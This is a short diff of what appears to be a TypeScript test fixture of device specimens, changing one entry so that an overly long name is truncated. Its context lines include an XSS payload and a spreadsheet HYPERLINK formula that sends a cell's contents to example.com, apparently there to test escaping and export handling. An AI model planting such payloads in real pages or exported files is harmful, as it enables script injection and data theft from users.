@@ -85,7 +85,7 @@ const SPECIMENS: Readonly<Record<number, Specimen>> = {
   5: secured('SM-G991B', { device_rooted: 'true', passcode_complaint: 'false' }),
   7: named('<img src=x onerror=alert(1)>'),
   8: named('=HYPERLINK("http://example.com/?"&A1,"Click me")'),
-  9: named('Extremely long name '.repeat(10)),
+  9: named(`${'Extremely long name '.repeat(10).slice(0, 199)}.`),
   11: { ...named('Reception iPad'), modelCode: 'iPad12,1' },
   12: { ...named('Reception iPad'), modelCode: 'iPad12,1' },
   13: named('هاتف المدير العام (المكتب الرئيسي)'),
